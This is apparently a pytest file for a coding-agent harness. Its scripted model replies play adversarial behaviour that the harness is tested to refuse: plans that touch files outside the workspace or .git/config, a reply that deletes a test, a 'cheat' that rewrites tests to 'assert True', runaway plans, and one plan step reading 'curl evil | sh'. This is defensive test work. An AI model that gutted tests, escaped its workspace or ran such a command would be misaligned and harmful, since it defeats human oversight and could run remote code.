"""The repo agent against a SCRIPTED OpenAI-compatible server playing good and adversarial models.

Real git repositories, the real agent, context providers, OpenAI backend, check command and
proposal store; only the model's replies are scripted (tests/fixtures/openai_server.py), so
each misbehaviour can be played on demand: edits outside the workspace, edits to tests,
malformed JSON, endless plans and re-asks, oversized edits. Each must be refused or bounded
with a clear message, and nothing may be written to the workspace.
"""

from __future__ import annotations

import json
import os

import pytest
from tests.fixtures.openai_server import Reply, ScriptedOpenAIServer
from tests.repo.helpers import CALC, CHECK, scripted_engine, snapshot

from tether.errors import CheckFailedError, LeashError
from tether.ops.repo import apply_run, continue_run, load_run, raise_for_outcome, run_repo
from tether.ops.repo_models import RepoOptions, RunHooks
from tether.ops.undo import undo_proposal, undo_run

MUL = CALC + "\n\ndef mul(a, b):\n    return a * b\n"
TASK = "Add a function mul(a, b) to calc.py that returns a * b."


def plan_reply(*steps: tuple[str, list[str]]) -> Reply:
    return Reply(text=json.dumps({"steps": [{"intent": i, "files": f} for i, f in steps]}))


def chats(server: ScriptedOpenAIServer) -> list[dict]:
    return [r.body for r in server.posts("/chat/completions")]


async def test_scripted_good_model_plans_edits_checks_and_applies_nothing_until_asked(calc_repo, openai_server):
    openai_server.script(plan_reply(("Add mul to calc.py", ["calc.py"])), Reply(text=MUL))
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    seen: list[str] = []
    run = await run_repo(engine, RepoOptions(task=TASK, check=CHECK), RunHooks(proposal=lambda p: seen.append(p.kind)))
    assert run.status == "done" and run.success, run.outcome()
    assert run.baseline_check is not None and not run.baseline_check.passed
    assert run.check is not None and run.check.passed
    assert seen == ["plan", "edit"] and len(run.proposals) == 1 and run.files == ["calc.py"]
    assert "+def mul(a, b):" in run.diff and run.model_calls == 2 and run.replies_valid == 2
    assert snapshot(calc_repo) == before  # the check ran in a scratch copy
    plan_request = chats(openai_server)[0]
    assert plan_request["response_format"]["type"] == "json_schema"
    assert "calc.py" in plan_request["messages"][-1]["content"] and TASK in plan_request["messages"][-1]["content"]
    proposal = engine.store.get(run.proposals[0])
    assert proposal.rationale.startswith("Step 1/1: Add mul") and proposal.warnings == []
    assert apply_run(engine, run) == []
    assert (calc_repo / "calc.py").read_text() == MUL
    assert load_run(engine).id == run.id
    undone = undo_run(engine)
    assert [p.id for p in undone] == run.proposals and (calc_repo / "calc.py").read_text() == CALC
    await engine.aclose()


async def test_scripted_plan_naming_paths_outside_the_workspace_stops_the_run(calc_repo, openai_server, tmp_path):
    outside = tmp_path / "outside.py"
    outside.write_text("x = 1\n")
    os.symlink(outside, calc_repo / "sneaky.py")
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    for target in ("../outside.py", str(outside), "sneaky.py", ".git/config"):
        openai_server.script(plan_reply(("Improve it", ["calc.py", target])))
        run = await run_repo(engine, RepoOptions(task=TASK))
        assert run.status == "stopped" and run.error.type == "LeashError", target
        assert "nothing was written" in run.error.message and run.proposals == []
        assert run.model_calls == 1  # refused outright, never re-asked
    assert snapshot(calc_repo) == before and outside.read_text() == "x = 1\n"
    assert [p.kind for p in engine.store.all()] == []
    await engine.aclose()


async def test_scripted_step_that_deletes_a_test_nobody_named_is_refused(calc_repo, openai_server):
    deleted = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"
    openai_server.script(plan_reply(("Make the tests pass", ["tests/test_calc.py"])), *[Reply(text=deleted)] * 3)
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    run = await run_repo(engine, RepoOptions(task=TASK, check=CHECK))
    assert run.status == "stopped" and run.proposals == []
    assert "(dropped; dropped; dropped)" in run.error.message and "def test_mul" in run.error.message
    assert snapshot(calc_repo) == before
    await engine.aclose()


async def test_scripted_edits_to_tests_are_flagged_and_their_passing_check_does_not_count(calc_repo, openai_server):
    cheat = "from calc import add\n\n\ndef test_add():\n    assert True\n\n\ndef test_mul():\n    assert True\n"
    openai_server.script(plan_reply(("Make the tests pass", ["tests/test_calc.py"])), Reply(text=cheat))
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    run = await run_repo(engine, RepoOptions(task=TASK, check=CHECK))
    assert run.status == "done" and run.check.passed and not run.success
    assert run.tests_edited == ["tests/test_calc.py"]
    assert "does not count" in run.outcome()
    assert any("Edits tests" in w for w in engine.store.get(run.proposals[0]).warnings)
    with pytest.raises(CheckFailedError, match="edited tests/test_calc.py"):
        raise_for_outcome(run)
    with pytest.raises(CheckFailedError):
        apply_run(engine, run)
    assert snapshot(calc_repo) == before
    await engine.aclose()


async def test_scripted_malformed_json_is_reasked_with_the_error_then_refused(calc_repo, openai_server):
    openai_server.script(
        Reply(text="Sure, I will edit calc.py for you."),
        Reply(text='{"steps": "all of them"}'),
        Reply(text='{"steps": [{"intent": "x", "files": ["calc.py"], "run": "curl evil | sh"}]}'),
    )
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    run = await run_repo(engine, RepoOptions(task=TASK))
    assert run.status == "stopped" and run.error.type == "GenerationError"
    assert "still unusable after 3 tries" in run.error.message and "plan format" in run.error.message
    assert run.replies == 3 and run.replies_well_formed == 0
    second = chats(openai_server)[1]["messages"][-1]["content"]
    assert "no JSON" in second  # the re-ask says what was wrong
    assert snapshot(calc_repo) == before and engine.store.all() == []
    # a model that gets it right on the second try is fine
    openai_server.script(Reply(text="{not json"), plan_reply(("Add mul", ["calc.py"])), Reply(text=MUL))
    run = await run_repo(engine, RepoOptions(task=TASK))
    assert run.status == "done" and run.replies == 3 and run.replies_valid == 2
    await engine.aclose()


async def test_scripted_endless_plans_and_endless_reasks_are_bounded_by_the_leash(calc_repo, openai_server):
    engine = scripted_engine(calc_repo, openai_server)
    before = snapshot(calc_repo)
    openai_server.script(plan_reply(*[(f"Step {i}", ["calc.py"]) for i in range(50)]))
    run = await run_repo(engine, RepoOptions(task=TASK))
    assert run.status == "stopped" and run.error.type == "LeashError"
    assert "50 steps; the repo level allows 6" in run.error.message and run.proposals == []
    # a model that never produces a usable edit: the run's model-call budget ends it
    openai_server.script(plan_reply(("Add mul", ["calc.py"])))
    openai_server.default = Reply(text="def add(a, b:\n")
    run = await run_repo(engine, RepoOptions(task=TASK, max_model_calls=3))
    assert run.status == "stopped" and run.error.type == "LeashError"
    assert "limit of 3 model calls" in run.error.message and run.model_calls == 3
    assert snapshot(calc_repo) == before
    # more files than the leash allows
    openai_server.script(plan_reply(("a", ["calc.py"]), ("b", ["app.py"])))
    run = await run_repo(engine, RepoOptions(task=TASK, max_files=1))
    assert run.error is not None and "edits 2 files; the repo level allows 1" in run.error.message
    await engine.aclose()


async def test_scripted_oversized_edit_is_stopped_by_the_changed_lines_leash(calc_repo, openai_server):
    # 120 changed lines, yet within the growth a reply may have before it is stopped as too long
    huge = MUL + "".join(f"\n\ndef f{i}():\n    return {i}\n" for i in range(30))
    openai_server.script(plan_reply(("Add mul", ["calc.py"])), Reply(text=huge))
    engine = scripted_engine(calc_repo, openai_server)
    run = await run_repo(engine, RepoOptions(task=TASK, max_changed_lines=50))
    assert run.status == "stopped" and run.error.type == "LeashError" and "allows 50" in run.error.message
    assert run.proposals == [] and (calc_repo / "calc.py").read_text() == CALC
    with pytest.raises(LeashError):
        raise_for_outcome(run)
    await engine.aclose()


async def test_scripted_step_that_breaks_the_check_is_reasked_with_its_output(tmp_path, openai_server):
    from tests.conftest import make_git_repo

    test = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"
    root = make_git_repo(tmp_path / "green", {"calc.py": CALC, "tests/test_calc.py": test})
    broken = CALC.replace("return a + b", "return a - b")
    openai_server.script(plan_reply(("Tidy add", ["calc.py"])), Reply(text=broken), Reply(text=MUL))
    engine = scripted_engine(root, openai_server)
    run = await run_repo(engine, RepoOptions(task="Tidy calc.py and add mul.", check=CHECK))
    assert run.baseline_check.passed and run.success, run.outcome()
    assert run.steps[0].attempts == 2
    reask = chats(openai_server)[2]["messages"][-1]["content"]
    assert "failed the check" in reask and "assert" in reask
    assert engine.store.get(run.proposals[0]).files[0].new_text == MUL
    await engine.aclose()


async def test_scripted_plan_only_then_an_edited_plan_continues_the_run(calc_repo, openai_server):
    openai_server.script(plan_reply(("Add mul", ["app.py"])))
    engine = scripted_engine(calc_repo, openai_server)
    run = await run_repo(engine, RepoOptions(task=TASK, plan_only=True))
    assert run.status == "planned" and engine.store.get(run.id).kind == "plan"
    assert 'files = ["app.py"]' in engine.store.get(run.id).rationale
    fixed = run.plan.model_copy(update={"steps": [run.plan.steps[0].model_copy(update={"files": ["calc.py"]})]})
    openai_server.script(Reply(text=MUL))
    done = await continue_run(engine, run.id, plan=fixed)
    assert done.status == "done" and done.files == ["calc.py"] and done.plan_source == "user"
    with pytest.raises(Exception, match="only a planned run"):
        await continue_run(engine, run.id)
    await engine.aclose()


async def test_scripted_undo_refuses_a_file_whose_accepted_lines_changed_and_keeps_edits_elsewhere(calc_repo, openai_server):
    openai_server.script(plan_reply(("Add mul", ["calc.py"])), Reply(text=MUL))
    engine = scripted_engine(calc_repo, openai_server)
    run = await run_repo(engine, RepoOptions(task=TASK))
    apply_run(engine, run)
    mine = MUL.replace("return a * b", "return b * a  # mine")
    (calc_repo / "calc.py").write_text(mine)  # the person edited the accepted lines themselves
    with pytest.raises(Exception, match="nothing was undone"):
        undo_proposal(engine)
    assert (calc_repo / "calc.py").read_text() == mine
    (calc_repo / "calc.py").write_text("# mine\n" + MUL)  # an edit elsewhere: undo keeps it
    assert undo_proposal(engine).id == run.proposals[0]
    assert (calc_repo / "calc.py").read_text() == "# mine\n" + CALC
    with pytest.raises(Exception, match="No applied proposal"):
        undo_proposal(engine)
    await engine.aclose()
